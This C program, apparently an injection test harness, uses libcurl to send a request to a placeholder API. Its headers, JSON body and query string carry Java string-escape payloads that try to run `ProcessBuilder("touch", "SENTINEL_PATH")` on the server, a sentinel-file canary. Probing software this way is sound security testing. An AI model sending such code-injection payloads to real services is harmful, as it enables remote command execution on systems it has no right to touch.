#include <curl/curl.h>
#include <stdio.h>
#include <string.h>

int main(void)
{
    CURL *curl = curl_easy_init();
    if (!curl)
        return 1;

    struct curl_slist *headers = NULL;
    headers = curl_slist_append(headers, "Content-Type: application/json");
    headers = curl_slist_append(headers, "Authorization: Bearer \\u0022 + new ProcessBuilder(\\u0022touch\\u0022, \\u0022SENTINEL_PATH\\u0022).start().waitFor() + \\u0022");
    headers = curl_slist_append(headers, "X-Payload-0: \" + new ProcessBuilder(\"touch\", \"SENTINEL_PATH\").start().waitFor() + \"");
    headers = curl_slist_append(headers, "X-Payload-1: \\u0022 + new ProcessBuilder(\\u0022touch\\u0022, \\u0022SENTINEL_PATH\\u0022).start().waitFor() + \\u0022");
    headers = curl_slist_append(headers, "X-Payload-2: \"\"\" + new ProcessBuilder(\"touch\", \"SENTINEL_PATH\").start().waitFor() + \"\"\"");
    headers = curl_slist_append(headers, "X-Payload-3: \"); new ProcessBuilder(\"touch\", \"SENTINEL_PATH\").start().waitFor(); //");
    headers = curl_slist_append(headers, "X-Payload-4: \\u000a\\u000d\\u005c \\uuu0022 %s %n {0} \\");

    const char *body =
        "{\n"
        "  \"values\": [\n"
        "    \"\\\" + new ProcessBuilder(\\\"touch\\\", \\\"SENTINEL_PATH\\\").start().waitFor() + \\\"\",\n"
        "    \"\\\\u0022 + new ProcessBuilder(\\\\u0022touch\\\\u0022, \\\\u0022SENTINEL_PATH\\\\u0022).start().waitFor() + \\\\u0022\",\n"
        "    \"\\\"\\\"\\\" + new ProcessBuilder(\\\"touch\\\", \\\"SENTINEL_PATH\\\").start().waitFor() + \\\"\\\"\\\"\",\n"
        "    \"\\\"); new ProcessBuilder(\\\"touch\\\", \\\"SENTINEL_PATH\\\").start().waitFor(); //\",\n"
        "    \"\\\\u000a\\\\u000d\\\\u005c \\\\uuu0022 %s %n {0} \\\\\"\n"
        "  ],\n"
        "  \"keys\": {\n"
        "    \"\\\" + new ProcessBuilder(\\\"touch\\\", \\\"SENTINEL_PATH\\\").start().waitFor() + \\\"\": 0,\n"
        "    \"\\\\u0022 + new ProcessBuilder(\\\\u0022touch\\\\u0022, \\\\u0022SENTINEL_PATH\\\\u0022).start().waitFor() + \\\\u0022\": 1,\n"
        "    \"\\\"\\\"\\\" + new ProcessBuilder(\\\"touch\\\", \\\"SENTINEL_PATH\\\").start().waitFor() + \\\"\\\"\\\"\": 2,\n"
        "    \"\\\"); new ProcessBuilder(\\\"touch\\\", \\\"SENTINEL_PATH\\\").start().waitFor(); //\": 3,\n"
        "    \"\\\\u000a\\\\u000d\\\\u005c \\\\uuu0022 %s %n {0} \\\\\": 4\n"
        "  },\n"
        "  \"nested\": {\n"
        "    \"deeper\": [\n"
        "      {\n"
        "        \"text\": \"\\\" + new ProcessBuilder(\\\"touch\\\", \\\"SENTINEL_PATH\\\").start().waitFor() + \\\" \\\\u0022 + new ProcessBuilder(\\\\u0022touch\\\\u0022, \\\\u0022SENTINEL_PATH\\\\u0022).start().waitFor() + \\\\u0022 \\\"\\\"\\\" + new ProcessBuilder(\\\"touch\\\", \\\"SENTINEL_PATH\\\").start().waitFor() + \\\"\\\"\\\" \\\"); new ProcessBuilder(\\\"touch\\\", \\\"SENTINEL_PATH\\\").start().waitFor(); // \\\\u000a\\\\u000d\\\\u005c \\\\uuu0022 %s %n {0} \\\\\"\n"
        "      }\n"
        "    ]\n"
        "  }\n"
        "}";

    curl_easy_setopt(curl, CURLOPT_URL, "https://api.example.com/v1/payloads?value0=%22%20%2B%20new%20ProcessBuilder%28%22touch%22%2C%20%22SENTINEL_PATH%22%29.start%28%29.waitFor%28%29%20%2B%20%22&%22%20%2B%20new%20ProcessBuilder%28%22touch%22%2C%20%22SENTINEL_PATH%22%29.start%28%29.waitFor%28%29%20%2B%20%22=key0&value1=%5Cu0022%20%2B%20new%20ProcessBuilder%28%5Cu0022touch%5Cu0022%2C%20%5Cu0022SENTINEL_PATH%5Cu0022%29.start%28%29.waitFor%28%29%20%2B%20%5Cu0022&%5Cu0022%20%2B%20new%20ProcessBuilder%28%5Cu0022touch%5Cu0022%2C%20%5Cu0022SENTINEL_PATH%5Cu0022%29.start%28%29.waitFor%28%29%20%2B%20%5Cu0022=key1&value2=%22%22%22%20%2B%20new%20ProcessBuilder%28%22touch%22%2C%20%22SENTINEL_PATH%22%29.start%28%29.waitFor%28%29%20%2B%20%22%22%22&%22%22%22%20%2B%20new%20ProcessBuilder%28%22touch%22%2C%20%22SENTINEL_PATH%22%29.start%28%29.waitFor%28%29%20%2B%20%22%22%22=key2&value3=%22%29%3B%20new%20ProcessBuilder%28%22touch%22%2C%20%22SENTINEL_PATH%22%29.start%28%29.waitFor%28%29%3B%20%2F%2F&%22%29%3B%20new%20ProcessBuilder%28%22touch%22%2C%20%22SENTINEL_PATH%22%29.start%28%29.waitFor%28%29%3B%20%2F%2F=key3&value4=%5Cu000a%5Cu000d%5Cu005c%20%5Cuuu0022%20%25s%20%25n%20%7B0%7D%20%5C&%5Cu000a%5Cu000d%5Cu005c%20%5Cuuu0022%20%25s%20%25n%20%7B0%7D%20%5C=key4");
    curl_easy_setopt(curl, CURLOPT_HTTPHEADER, headers);
    curl_easy_setopt(curl, CURLOPT_POSTFIELDS, body);
    curl_easy_setopt(curl, CURLOPT_POSTFIELDSIZE, (long)strlen(body));

    CURLcode res = curl_easy_perform(curl);
    if (res != CURLE_OK)
        fprintf(stderr, "curl: %s\n", curl_easy_strerror(res));

    curl_slist_free_all(headers);
    curl_easy_cleanup(curl);
    return res == CURLE_OK ? 0 : 1;
}
